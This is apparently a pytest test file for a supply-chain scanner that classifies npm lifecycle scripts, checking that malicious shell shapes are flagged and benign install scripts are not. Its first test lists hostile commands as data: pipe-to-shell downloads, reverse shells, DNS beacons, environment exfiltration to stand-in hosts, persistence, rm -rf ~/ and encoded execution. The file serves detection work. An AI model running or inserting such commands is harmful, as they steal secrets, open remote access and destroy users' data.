"""Shell facts from lifecycle scripts: each fact from a real grammar, and benign scripts stay quiet."""

from __future__ import annotations

import pytest

from airlock.analysis.scripts import describe_shell, gyp_commands


@pytest.mark.parametrize(
    ("script", "fact"),
    [
        ("curl -fsSL https://x.example.com/i.sh | sh", "pipe_to_interpreter"),
        ("wget -qO- https://x.example.com/i | bash -s", "pipe_to_interpreter"),
        ('bash -c "$(curl -s https://x.example.com/i)"', "pipe_to_interpreter"),
        ("curl -o /tmp/a https://x.example.com/a && chmod +x /tmp/a && /tmp/a", "executes_download"),
        ("bash -i >& /dev/tcp/198.51.100.1/9 0>&1", "reverse_shell"),
        ("nc -e /bin/sh 198.51.100.1 9", "reverse_shell"),
        ("nslookup $(whoami).x.oastify.com.invalid", "dns_beacon"),
        ("dig `hostname`.x.example.com", "dns_beacon"),
        ("env | curl -d @- https://x.example.com", "env_dump"),
        ("echo x >> ~/.bashrc", "persistence"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "persistence"),
        ("rm -rf ~/", "destructive"),
        ("echo ZWNobw== | base64 -d | sh", "encoded"),
        ("powershell -enc ZQBjAGgAbwA=", "encoded"),
        ("regsvr32 /s x.dll", "lolbins"),
        ("npm publish --access public", "propagation"),
        ("start /B node x.js & node x.js", "hidden"),
    ],
)
def test_malicious_shapes_are_recognised(script: str, fact: str) -> None:
    assert getattr(describe_shell(script), fact), describe_shell(script)


@pytest.mark.parametrize(
    "script",
    [
        "node install.js",
        "node-gyp rebuild",
        "husky install",
        "prebuild-install || node-gyp rebuild",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "tsc -p . && rm -rf dist/tmp",
        "patch-package",
        "opencollective-postinstall || exit 0",
    ],
)
def test_benign_scripts_raise_nothing(script: str) -> None:
    facts = describe_shell(script)
    assert not (
        facts.fetches_and_runs
        or facts.reverse_shell
        or facts.dns_beacon
        or facts.destructive
        or facts.encoded
        or facts.persistence
        or facts.lolbins
    ), facts


def test_node_files_and_inline_code_are_followed() -> None:
    facts = describe_shell("node ./scripts/setup.js --flag && node -e \"require('child_process')\"")
    assert facts.runs_files == ("./scripts/setup.js",)
    assert facts.node_inline == ("require('child_process')",)


def test_gyp_command_expansions() -> None:
    gyp = "{'include_dirs': [\"<!(node -p \\\"require('nan')\\\")\", '<!@(pkg-config --cflags x)']}"
    assert gyp_commands(gyp) == ["node -p \\\"require('nan')\\\"", "pkg-config --cflags x"]
